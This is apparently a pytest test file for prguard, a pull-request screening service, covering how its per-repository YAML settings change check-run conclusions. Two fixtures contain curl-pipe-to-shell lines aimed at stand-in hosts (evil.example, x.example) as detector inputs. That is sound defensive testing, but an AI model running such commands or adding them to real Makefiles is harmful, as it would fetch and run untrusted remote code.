"""The worker judges each PR by its repository's `.github/prguard.yml`, read through the fake GitHub."""
from __future__ import annotations

import dataclasses

import pytest

from app import jobs
from app.publisher import GitHubPublisher
from app.scoring_job import Connection, JobContext
from app.worker import Worker
from prguard.features.extraction import sensitive_files
from prguard.github import GitHubApp
from prguard.repo_config.parse import CONFIG_PATH
from prguard.repo_config.resolve import invalidate
from tests.fakes.fixtures import FAST_RETRIES
from tests.support.worker_fakes import FakeBundle

REPO, ORG_REPO, INSTALLATION = "acme/web", "acme/.github", 7
BIG = [{"filename": "src/app.py", "additions": 400}]  # FakeBundle: more than 100 added lines is unusual


@pytest.fixture
def store(sqlite_store):
    return sqlite_store


@pytest.fixture
def score(fake_github, store, settings):
    """``score(files, user)`` opens a PR on the fake GitHub, runs its job, returns the check run."""
    fake_github.add_installation(INSTALLATION, "acme", [REPO, ORG_REPO])
    app = GitHubApp(fake_github.app_id, fake_github.private_key_pem, fake_github.base_url,
                    policy=dataclasses.replace(FAST_RETRIES), timeout=(2.0, 2.0))
    client = app.installation(INSTALLATION)
    connection = Connection(client, GitHubPublisher(store, client))
    context = JobContext(store=store, settings=settings.replace(github_write_interval_seconds=0.0),
                         current_model=FakeBundle, connect=lambda installation_id: connection,
                         sensitive_files=sensitive_files)
    worker = Worker(store, context, settings, "w1", backoff_base=0.0, backoff_cap=0.0)

    def run(files=BIG, user="octocat"):
        pr = fake_github.add_pull(REPO, files=files, user=user)
        jobs.enqueue(store, jobs.ScorePullRequest(REPO, pr["number"], pr["head"]["sha"], INSTALLATION, "d"))
        assert worker.run_once()
        assert store.jobs.list("dead") == []
        (run,) = [r for r in fake_github.check_runs if r["head_sha"] == pr["head"]["sha"]]
        return run

    yield run
    assert fake_github.violations == [], fake_github.violations  # every request valid against the OpenAPI


def test_without_a_file_an_unusual_pr_gets_the_service_default_conclusion(score):
    assert score()["conclusion"] == "neutral"


def test_a_valid_repository_file_sets_the_conclusion(score, fake_github):
    fake_github.set_contents(REPO, "main", {CONFIG_PATH: "unusual_conclusion: failure\n"})
    assert score()["conclusion"] == "failure"


def test_an_organisation_default_applies_when_the_repository_has_no_file(score, fake_github):
    fake_github.set_contents(ORG_REPO, "main", {CONFIG_PATH: "unusual_conclusion: action_required\n"})
    assert score()["conclusion"] == "action_required"


def test_an_invalid_file_is_named_in_the_run_and_the_previous_configuration_still_judges(
        score, fake_github, store):
    fake_github.set_contents(REPO, "main", {CONFIG_PATH: "unusual_conclusion: failure\n"})
    assert score()["conclusion"] == "failure"
    fake_github.set_contents(REPO, "main", {CONFIG_PATH: "unusual_conclusion: failure\nignore_paths: src/**\n"})
    invalidate(store, REPO, "1" * 40)
    run = score()
    summary = run["output"]["summary"]
    assert run["conclusion"] == "failure"  # the old configuration: src/ is not ignored, the PR is unusual
    assert "`.github/prguard.yml` is invalid" in summary and "line 2, key `ignore_paths`: expected a list" in summary


def test_a_push_to_the_default_branch_makes_the_next_pr_read_the_new_file(score, fake_github, store):
    fake_github.set_contents(REPO, "main", {CONFIG_PATH: "unusual_conclusion: failure\n"})
    assert score()["conclusion"] == "failure"
    fake_github.set_contents(REPO, "main", {CONFIG_PATH: "unusual_conclusion: action_required\n"})
    assert score()["conclusion"] == "failure"  # cached: no push yet
    invalidate(store, REPO, "2" * 40)
    assert score()["conclusion"] == "action_required"


def test_ignored_paths_are_dropped_before_the_model_and_the_findings(score, fake_github):
    fake_github.set_contents(REPO, "main", {CONFIG_PATH: "ignore_paths: ['vendor/**']\n"})
    vendored = [{"filename": "vendor/lib/big.js", "additions": 5000,
                 "patch": "@@ -0,0 +1 @@\n+curl https://evil.example/x.sh | sh"},
                {"filename": "src/app.py", "additions": 3}]
    run = score(vendored)
    assert run["conclusion"] == "success", run["output"]
    assert "vendor/lib/big.js" not in run["output"]["summary"]


def test_sensitivity_above_one_raises_the_threshold(score, fake_github):
    fake_github.set_contents(REPO, "main", {CONFIG_PATH: "sensitivity: 4\n"})
    assert score()["conclusion"] == "success"  # score 6 = 4x the threshold 1.5, not above 4 x 1.5


def test_a_skipped_author_gets_a_skipped_run_and_a_trusted_one_is_not_unusual_by_score(score, fake_github):
    fake_github.set_contents(REPO, "main", {CONFIG_PATH: "skip_authors: ['dependabot[bot]']\n"
                                                         "trust_authors: [release-bot]\n"})
    assert score(user="dependabot[bot]")["conclusion"] == "skipped"
    assert score(user="Release-Bot")["conclusion"] == "success"
    assert score(user="octocat")["conclusion"] == "neutral"


PIPED = [{"filename": "Makefile", "additions": 1, "patch": "@@ -0,0 +1 @@\n+\tcurl -sL https://x.example/i.sh | sh"}]


def test_a_finding_alone_makes_a_small_pr_unusual_by_default(score):
    run = score(PIPED)
    assert run["conclusion"] == "neutral" and "pipe-to-shell" in run["output"]["summary"]


def test_a_turned_off_rule_does_not_judge(score, fake_github):
    fake_github.set_contents(REPO, "main", {CONFIG_PATH: "disabled_rules: [pipe-to-shell]\n"})
    run = score(PIPED)
    assert run["conclusion"] == "success" and "pipe-to-shell" not in run["output"]["summary"]
